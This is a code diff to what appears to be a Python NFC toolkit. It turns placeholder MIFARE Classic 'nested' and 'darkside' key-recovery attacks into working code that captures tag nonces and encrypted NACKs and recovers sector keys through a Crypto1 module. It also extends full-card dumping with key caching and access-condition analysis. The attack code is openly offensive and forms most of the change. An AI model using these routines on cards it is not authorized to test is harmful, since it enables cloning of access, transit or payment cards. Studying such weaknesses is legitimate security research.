@@ -4,120 +4,292 @@
 
 import os
 import sys
-import time
 import random
 import binascii
-from Crypto.Cipher import DES
+from functools import lru_cache
+from collections import namedtuple
+
+from key_store import CardKeyCache, KeyStore
+from clock import SYSTEM_CLOCK
+from crypto1 import (NestedTrace, DarksideTrace, DEFAULT_KEY_RANGE,
+                     key_chunks, recover_key)
+
+# Location of one sector: first block, number of blocks and trailer block
+SectorLayout = namedtuple('SectorLayout', ['first_block', 'block_count', 'trailer_block'])
+
+# Sectors per MIFARE Classic variant
+CLASSIC_SECTORS = {
+    "MIFARE Classic Mini": 5,
+    "MIFARE Classic 1K": 16,
+    "MIFARE Classic 2K": 32,
+    "MIFARE Classic 4K": 40,
+}
+
+
+class CardGeometry:
+    """
+    Precomputed sector and block layout of a MIFARE Classic card
+
+    Sectors 0-31 have 4 blocks, sectors 32-39 (4K only) have 16 blocks.
+    The last block of every sector is its trailer.
+    """
+
+    def __init__(self, card_type, num_sectors):
+        self.card_type = card_type
+        self.num_sectors = num_sectors
+
+        sectors = []
+        first_block = 0
+        for sector in range(num_sectors):
+            block_count = 4 if sector < 32 else 16
+            sectors.append(SectorLayout(first_block, block_count, first_block + block_count - 1))
+            first_block += block_count
+        self.sectors = tuple(sectors)
+        self.num_blocks = first_block
+
+        self._block_sector = tuple(sector for sector, layout in enumerate(self.sectors)
+                                   for _ in range(layout.block_count))
+        self._trailers = frozenset(layout.trailer_block for layout in self.sectors)
+
+    def sector(self, sector):
+        """Return the SectorLayout of a sector"""
+        return self.sectors[sector]
+
+    def sector_of(self, block):
+        """Return the sector containing a block"""
+        return self._block_sector[block]
+
+    def is_trailer(self, block):
+        """Check whether a block is a sector trailer"""
+        return block in self._trailers
+
+
+@lru_cache(maxsize=None)
+def card_geometry(card_type="MIFARE Classic 1K"):
+    """Return the (cached) geometry of a MIFARE Classic variant"""
+    return CardGeometry(card_type, CLASSIC_SECTORS[card_type])
+
+
+def tag_geometry(tag):
+    """Pick the card geometry from a tag's product name or memory size"""
+    product = getattr(tag, 'product', None) or ""
+    for card_type in CLASSIC_SECTORS:
+        if card_type.split()[-1] in product.split():
+            return card_geometry(card_type)
+
+    size = getattr(tag, 'size', 1024) or 1024
+    if size > 2048:
+        return card_geometry("MIFARE Classic 4K")
+    if size > 1024:
+        return card_geometry("MIFARE Classic 2K")
+    if size <= 320:
+        return card_geometry("MIFARE Classic Mini")
+    return card_geometry("MIFARE Classic 1K")
+
+
+def dump_geometry(dump):
+    """Pick the smallest card geometry that holds every sector of a dump"""
+    highest = max(dump, default=0)
+    for card_type, num_sectors in CLASSIC_SECTORS.items():
+        if highest < num_sectors:
+            return card_geometry(card_type)
+    raise ValueError(f"Sector {highest} does not exist on any MIFARE Classic card")
+
 
 class MifareUtils:
     """Utilities for working with MIFARE cards"""
 
+    # Nonces captured per attack; each nested trace leaks 32 keystream bits,
+    # each darkside trace only 4
+    NESTED_TRACES = 3
+    DARKSIDE_TRACES = 16
+
     @staticmethod
-    def nested_attack(tag, known_key, known_sector, target_sector):
+    def capture_nested(tag, known_key, known_sector, target_sector, key_type_a=True,
+                       count=NESTED_TRACES, known_key_type_a=True):
         """
-        Perform a nested authentication attack
-        This is a simplified implementation - in a real scenario, this would
-        involve capturing nonces and performing cryptographic analysis
+        Capture encrypted tag nonces from nested authentications
+
+        Needs a tag driver that exposes nested_nonce(); returns None when the
+        tag cannot do raw nested authentication (e.g. stock nfcpy tags).
+        """
+        if not hasattr(tag, 'nested_nonce'):
+            return None
+
+        uid = int.from_bytes(tag.identifier[:4], 'big')
+        traces = []
+        for _ in range(count):
+            nt, nt_enc = tag.nested_nonce(known_sector, known_key, target_sector, key_type_a,
+                                          known_key_type_a)
+            traces.append(NestedTrace(uid, nt, nt_enc))
+        return traces
+
+    @staticmethod
+    def capture_darkside(tag, sector=0, key_type_a=True, count=DARKSIDE_TRACES):
         """
-        # This is a placeholder for the actual implementation
-        # In a real implementation, this would:
-        # 1. Authenticate with the known key
-        # 2. Capture the nonce from a subsequent authentication attempt
-        # 3. Analyze the nonce to recover the key for the target sector
+        Capture encrypted NACKs for random reader nonces
 
+        Needs a tag driver that exposes darkside_nack(); returns None otherwise.
+        """
+        if not hasattr(tag, 'darkside_nack'):
+            return None
+
+        uid = int.from_bytes(tag.identifier[:4], 'big')
+        traces = []
+        for _ in range(count):
+            nr_enc = random.getrandbits(32)
+            nt, nack_enc = tag.darkside_nack(sector, key_type_a, nr_enc)
+            traces.append(DarksideTrace(uid, nt, nr_enc, nack_enc))
+        return traces
+
+    @staticmethod
+    def nested_attack(tag, known_key, known_sector, target_sector, key_type_a=True,
+                      keys=None, key_range=DEFAULT_KEY_RANGE):
+        """
+        Perform a nested authentication attack
+        Captures nonces encrypted under the target key and recovers the key
+        offline by filtering the candidate keys with the Crypto1 engine
+        """
         print(f"Performing nested attack from sector {known_sector} to {target_sector}")
         print(f"Using known key: {known_key.hex()}")
 
-        # Simulate the attack process
         print("Capturing authentication data...")
-        time.sleep(1)
-        print("Analyzing nonces...")
-        time.sleep(2)
-
-        # In a real implementation, this would be the recovered key
-        # Here we're just simulating success or failure
-        success = random.random() > 0.7
-
-        if success:
-            # Generate a random key as our "cracked" key
-            cracked_key = bytes([random.randint(0, 255) for _ in range(6)])
-            return cracked_key
-        else:
+        traces = MifareUtils.capture_nested(tag, known_key, known_sector, target_sector, key_type_a)
+        if not traces:
+            print("Tag does not support nested nonce capture")
             return None
 
+        print("Analyzing nonces...")
+        return recover_key(traces, key_chunks(keys, key_range))
+
     @staticmethod
-    def darkside_attack(tag):
+    def darkside_attack(tag, sector=0, key_type_a=True, keys=None, key_range=DEFAULT_KEY_RANGE):
         """
-        Simulate a darkside attack on MIFARE Classic
-        This attack exploits a weakness in the CRYPTO1 cipher
+        Perform a darkside attack on MIFARE Classic
+        This attack exploits the encrypted NACK leaked by the CRYPTO1 cipher
         """
         print("Performing darkside attack...")
         print("This attack targets a weakness in the CRYPTO1 cipher")
 
-        # Simulate the attack process
         print("Sending specially crafted authentication attempts...")
-        time.sleep(2)
-        print("Collecting and analyzing responses...")
-        time.sleep(2)
-
-        # Simulate success or failure
-        success = random.random() > 0.6
-
-        if success:
-            # Generate a random key as our "cracked" key
-            cracked_key = bytes([random.randint(0, 255) for _ in range(6)])
-            return cracked_key
-        else:
+        traces = MifareUtils.capture_darkside(tag, sector, key_type_a)
+        if not traces:
+            print("Tag does not support darkside capture")
             return None
 
+        print("Collecting and analyzing responses...")
+        return recover_key(traces, key_chunks(keys, key_range))
+
 class NFCDump:
     """Utilities for dumping and analyzing NFC card data"""
 
     @staticmethod
-    def dump_mifare_classic(tag, keys):
-        """Dump all accessible data from a MIFARE Classic card"""
+    def read_sector(tag, sector, blocks=None, geometry=None):
+        """
+        Read every block of an authenticated sector in one session
+
+        Uses the tag's read_blocks(first_block, count) when the driver offers
+        a bulk read, otherwise reads block by block without authenticating
+        again. `blocks` is an earlier (possibly partial) result; only its
+        missing blocks are read. Returns (blocks, errors) where unreadable
+        blocks are None and errors maps block number to the failure.
+        """
+        geometry = geometry or tag_geometry(tag)
+        first_block, block_count, _ = geometry.sector(sector)
+        if blocks is None:
+            blocks = [None] * block_count
+        errors = {}
+
+        if hasattr(tag, 'read_blocks') and all(block is None for block in blocks):
+            try:
+                data = tag.read_blocks(first_block, block_count)
+                return [data[i * 16:(i + 1) * 16] for i in range(block_count)], errors
+            except Exception:
+                pass  # Fall back to reading block by block
+
+        blocks = list(blocks)
+        for i in range(block_count):
+            if blocks[i] is not None:
+                continue
+            try:
+                blocks[i] = tag.read(first_block + i)
+            except Exception as e:
+                errors[first_block + i] = str(e)
+
+        return blocks, errors
+
+    @staticmethod
+    def dump_mifare_classic(tag, keys, writer=None):
+        """
+        Dump all accessible data from a MIFARE Classic card
+
+        `keys` is a list of keys or a KeyStore; a KeyStore is tried in
+        hit-rate order for this card and learns which keys worked.
+        Each sector is read once after the first successful authentication;
+        blocks that key did not give access to are retried after the other
+        key type authenticates. Partial sectors are kept, and per-block read
+        failures are listed under 'errors'. With a DumpWriter every sector
+        is written out as soon as it is done.
+        """
         dump = {}
 
-        # Determine card size
-        num_sectors = 16  # Default for MIFARE Classic 1K
-        if hasattr(tag, 'size'):
-            if tag.size > 1024:
-                num_sectors = 40  # MIFARE Classic 4K
+        key_store = None
+        if isinstance(keys, KeyStore):
+            key_store = keys
+            keys = key_store.ordered(getattr(tag, 'product', None), getattr(tag, 'identifier', None))
+
+        # Keys that opened earlier sectors are tried first on later ones
+        keys = CardKeyCache(keys)
+
+        # Determine card layout
+        geometry = tag_geometry(tag)
 
         # Try to read all sectors
-        for sector in range(num_sectors):
-            dump[sector] = {'data': None, 'key_a': None, 'key_b': None}
+        for sector in range(geometry.num_sectors):
+            dump[sector] = {'data': None, 'key_a': None, 'key_b': None, 'errors': {}}
 
             # Try authentication with all keys
             for key_type in ['A', 'B']:
                 for key in keys:
                     try:
-                        if tag.authenticate(sector, key, key_type == 'A'):
-                            # Store the working key
-                            if key_type == 'A':
-                                dump[sector]['key_a'] = key
-                            else:
-                                dump[sector]['key_b'] = key
-
-                            # Try to read the sector data
-                            try:
-                                block_start = sector * 4
-                                blocks = []
-                                for i in range(4):  # 4 blocks per sector
-                                    block_data = tag.read(block_start + i)
-                                    blocks.append(block_data)
-                                dump[sector]['data'] = blocks
-                                break
-                            except Exception:
-                                pass
+                        if not tag.authenticate(sector, key, key_type == 'A'):
+                            continue
                     except Exception:
                         continue
 
+                    keys.confirm(key)
+
+                    # Store the working key
+                    if key_type == 'A':
+                        dump[sector]['key_a'] = key
+                    else:
+                        dump[sector]['key_b'] = key
+
+                    # Read whatever this key still gives us access to
+                    blocks = dump[sector]['data']
+                    if blocks is None or None in blocks:
+                        blocks, errors = NFCDump.read_sector(tag, sector, blocks, geometry)
+                        dump[sector]['data'] = blocks
+                        dump[sector]['errors'] = errors
+                    break
+
+            if dump[sector]['data'] is not None and all(block is None for block in dump[sector]['data']):
+                dump[sector]['data'] = None
+
+            if writer is not None:
+                entry = dump[sector]
+                writer.write_sector(sector, entry['data'], entry['key_a'], entry['key_b'], entry['errors'])
+
+        if key_store is not None:
+            key_store.record_card(keys.confirmed, getattr(tag, 'product', None),
+                                  getattr(tag, 'identifier', None))
+
         return dump
 
     @staticmethod
     def save_dump(dump, filename):
         """Save a card dump to a file"""
+        geometry = dump_geometry(dump)
         with open(filename, 'w') as f:
             for sector, data in dump.items():
                 f.write(f"Sector {sector}:\n")
@@ -134,8 +306,13 @@ class NFCDump:
 
                 if data['data']:
                     f.write("  Data:\n")
+                    first_block = geometry.sector(sector).first_block
                     for i, block in enumerate(data['data']):
-                        f.write(f"    Block {sector*4 + i}: {block.hex().upper()}\n")
+                        if block is None:
+                            error = data.get('errors', {}).get(first_block + i, "Not accessible")
+                            f.write(f"    Block {first_block + i}: Unreadable ({error})\n")
+                        else:
+                            f.write(f"    Block {first_block + i}: {block.hex().upper()}\n")
                 else:
                     f.write("  Data: Not accessible\n")
 
@@ -143,44 +320,38 @@ class NFCDump:
 
     @staticmethod
     def analyze_dump(dump):
-        """Analyze a card dump for common patterns and data"""
+        """
+        Analyze a card dump for common patterns and data
+
+        The dump is flattened into a raw card image and decoded by the
+        vectorized analyzer in dump_analyzer; unread blocks are ignored.
+        """
+        from dump_analyzer import analyze_image, dump_to_image, access_conditions, value_blocks
+        from access_conditions import decode_access_bytes, describe
+
+        geometry = dump_geometry(dump)
         results = {
             'uid': None,
             'card_type': "MIFARE Classic",
-            'readable_sectors': 0,
+            'readable_sectors': sum(1 for data in dump.values() if data['data']),
             'total_sectors': len(dump),
             'access_conditions': {},
             'value_blocks': []
         }
 
-        for sector, data in dump.items():
-            if data['data']:
-                results['readable_sectors'] += 1
-
-                # Extract UID from sector 0, block 0
-                if sector == 0 and len(data['data']) > 0:
-                    results['uid'] = data['data'][0][:4].hex().upper()
-
-                # Check for value blocks (used for electronic purse)
-                for i, block in enumerate(data['data']):
-                    block_num = sector * 4 + i
-
-                    # Skip sector trailer blocks (block 3, 7, 11, etc.)
-                    if (block_num + 1) % 4 == 0:
-                        # This is a sector trailer - extract access conditions
-                        if len(block) >= 9:
-                            results['access_conditions'][sector] = block[6:9].hex().upper()
-                        continue
-
-                    # Check if this might be a value block
-                    if len(block) >= 4:
-                        value = int.from_bytes(block[0:4], byteorder='little', signed=True)
-                        inverted_value = int.from_bytes(block[4:8], byteorder='little', signed=True)
-                        if value == ~inverted_value & 0xFFFFFFFF:
-                            results['value_blocks'].append({
-                                'block': block_num,
-                                'value': value
-                            })
+        # Extract UID from sector 0, block 0
+        if dump.get(0, {}).get('data') and dump[0]['data'][0]:
+            results['uid'] = dump[0]['data'][0][:4].hex().upper()
+
+        image, readable = dump_to_image(dump, geometry)
+        analysis = analyze_image(image, geometry, readable)
+        results['access_conditions'] = access_conditions(analysis)
+        results['access_permissions'] = {
+            sector: describe(decode_access_bytes(bytes(analysis.access_bytes[0][sector])),
+                             geometry.sector(sector).block_count)
+            for sector in results['access_conditions']
+        }
+        results['value_blocks'] = value_blocks(analysis)
 
         return results
 
@@ -188,9 +359,13 @@ class DESFireUtils:
     """Utilities for working with MIFARE DESFire cards"""
 
     @staticmethod
-    def authenticate_desfire(tag, key_id=0, key=b'\x00' * 8):
+    def authenticate_desfire(tag, key_id=0, key=b'\x00' * 8, clock=None):
         """Authenticate to a DESFire card using default DES key"""
+        clock = clock or SYSTEM_CLOCK
         try:
+            # pycryptodome is only needed for DESFire cards
+            from Crypto.Cipher import DES
+
             # This is a simplified implementation
             # In a real scenario, this would involve proper DESFire command handling
 
@@ -202,7 +377,7 @@ class DESFireUtils:
 
             # Simulate authentication process
             print(f"Authenticating to DESFire with key ID {key_id}")
-            time.sleep(1)
+            clock.sleep(1)
 
             # Return simulated success/failure
             return random.random() > 0.5